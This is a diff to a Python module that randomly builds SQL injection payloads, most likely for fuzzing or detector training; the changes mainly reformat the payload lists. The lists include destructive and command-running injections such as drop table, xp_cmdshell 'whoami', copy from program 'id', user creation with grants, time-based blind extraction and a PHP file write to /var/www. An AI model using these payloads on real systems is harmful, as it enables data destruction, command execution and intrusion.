@@ -22,11 +22,22 @@ def _number(rng: random.Random) -> str:
 def _tautology(rng: random.Random, quoted: str) -> str:
     number, word = _number(rng), "".join(rng.choices("abcdefgxyzQWRT", k=rng.randrange(1, 5)))
     forms = [
-        f"{number}={number}", f"{number} = {number}", f"({number})=({number})", f"{number} like {number}",
-        f"not {number}={int(number) + 1}", f"{number}<>{int(number) + 1}", f"2>1", "true", f"{number}",
-        f"{number} between 0 and 99999", f"{rng.choice(_COLUMNS)} is not null", f"exists(select 1 from {rng.choice(_TABLES)})",
-        f"{number} in ({number},5)", f"length(database())>{number}", f"{number}+1={int(number) + 1}",
-    ]  # fmt: skip
+        f"{number}={number}",
+        f"{number} = {number}",
+        f"({number})=({number})",
+        f"{number} like {number}",
+        f"not {number}={int(number) + 1}",
+        f"{number}<>{int(number) + 1}",
+        "2>1",
+        "true",
+        f"{number}",
+        f"{number} between 0 and 99999",
+        f"{rng.choice(_COLUMNS)} is not null",
+        f"exists(select 1 from {rng.choice(_TABLES)})",
+        f"{number} in ({number},5)",
+        f"length(database())>{number}",
+        f"{number}+1={int(number) + 1}",
+    ]
     if quoted:
         forms += [
             f"{quoted}{word}{quoted}={quoted}{word}",
@@ -74,25 +85,51 @@ def _union(rng: random.Random) -> str:
 
 def _stacked(rng: random.Random) -> str:
     table, column = rng.choice(_TABLES), rng.choice(_COLUMNS)
-    return "; " + rng.choice((
-        f"drop table {table}", f"delete from {table}", f"update {table} set {column}=1", f"insert into {table} values (1,2)",
-        f"truncate table {table}", "shutdown", "waitfor delay '0:0:5'", "exec master..xp_cmdshell 'whoami'", f"select pg_sleep({_number(rng)})",
-        "declare @q varchar(99) set @q=0x61 exec(@q)", f"copy {table} from program 'id'", f"alter table {table} drop column {column}",
-        "create user eve with password 'x'", f"grant all on {table} to public",
-    ))  # fmt: skip
+    return "; " + rng.choice(
+        (
+            f"drop table {table}",
+            f"delete from {table}",
+            f"update {table} set {column}=1",
+            f"insert into {table} values (1,2)",
+            f"truncate table {table}",
+            "shutdown",
+            "waitfor delay '0:0:5'",
+            "exec master..xp_cmdshell 'whoami'",
+            f"select pg_sleep({_number(rng)})",
+            "declare @q varchar(99) set @q=0x61 exec(@q)",
+            f"copy {table} from program 'id'",
+            f"alter table {table} drop column {column}",
+            "create user eve with password 'x'",
+            f"grant all on {table} to public",
+        )
+    )
 
 
 def _blind(rng: random.Random) -> str:
     word = rng.choice(("and", "or", "&&", "||", "xor"))
     column, table = rng.choice(_COLUMNS), rng.choice(_TABLES)
-    return f"{word} " + rng.choice((
-        f"ascii(substr((select {column} from {table} limit 1),1,1))>64", "sleep(5)", "(select 1 from (select(sleep(5)))a)",
-        f"(select count(*) from {table})>0", "substring(version(),1,1)=5", "benchmark(5000000,md5(1))", "if(1=1,sleep(5),0)",
-        f"extractvalue(1,concat(0x7e,(select {column} from {table})))", "updatexml(1,concat(0x7e,version()),1)", "1=convert(int,@@version)",
-        f"{_number(rng)}=(select {_number(rng)} from pg_sleep(5))", "(select case when (1=1) then 1 else 1/0 end)=1",
-        f"(select 8 from(select count(*),concat(0x71,floor(rand(0)*2))x from {table} group by x)a)", "length(user())=8", "1=cast(version() as int)",
-        f"exists(select {column} from {table} where {column} like 'a%')", "ord(mid(user(),1,1))>100", "row(1,1)>(select count(*),1)",
-    ))  # fmt: skip
+    return f"{word} " + rng.choice(
+        (
+            f"ascii(substr((select {column} from {table} limit 1),1,1))>64",
+            "sleep(5)",
+            "(select 1 from (select(sleep(5)))a)",
+            f"(select count(*) from {table})>0",
+            "substring(version(),1,1)=5",
+            "benchmark(5000000,md5(1))",
+            "if(1=1,sleep(5),0)",
+            f"extractvalue(1,concat(0x7e,(select {column} from {table})))",
+            "updatexml(1,concat(0x7e,version()),1)",
+            "1=convert(int,@@version)",
+            f"{_number(rng)}=(select {_number(rng)} from pg_sleep(5))",
+            "(select case when (1=1) then 1 else 1/0 end)=1",
+            f"(select 8 from(select count(*),concat(0x71,floor(rand(0)*2))x from {table} group by x)a)",
+            "length(user())=8",
+            "1=cast(version() as int)",
+            f"exists(select {column} from {table} where {column} like 'a%')",
+            "ord(mid(user(),1,1))>100",
+            "row(1,1)>(select count(*),1)",
+        )
+    )
 
 
 def _order(rng: random.Random) -> str:
@@ -100,7 +137,7 @@ def _order(rng: random.Random) -> str:
 
 
 def _out(rng: random.Random) -> str:
-    return f"union select 1,'<?php echo 1;?>' into {rng.choice(('outfile', 'dumpfile'))} '/var/www/{rng.choice('abc')}.php'"
+    return f"union select 1,'<?php ?>' into {rng.choice(('outfile', 'dumpfile'))} '/var/www/{rng.choice('abc')}.php'"
 
 
 def _payload(rng: random.Random) -> tuple[str, str]:
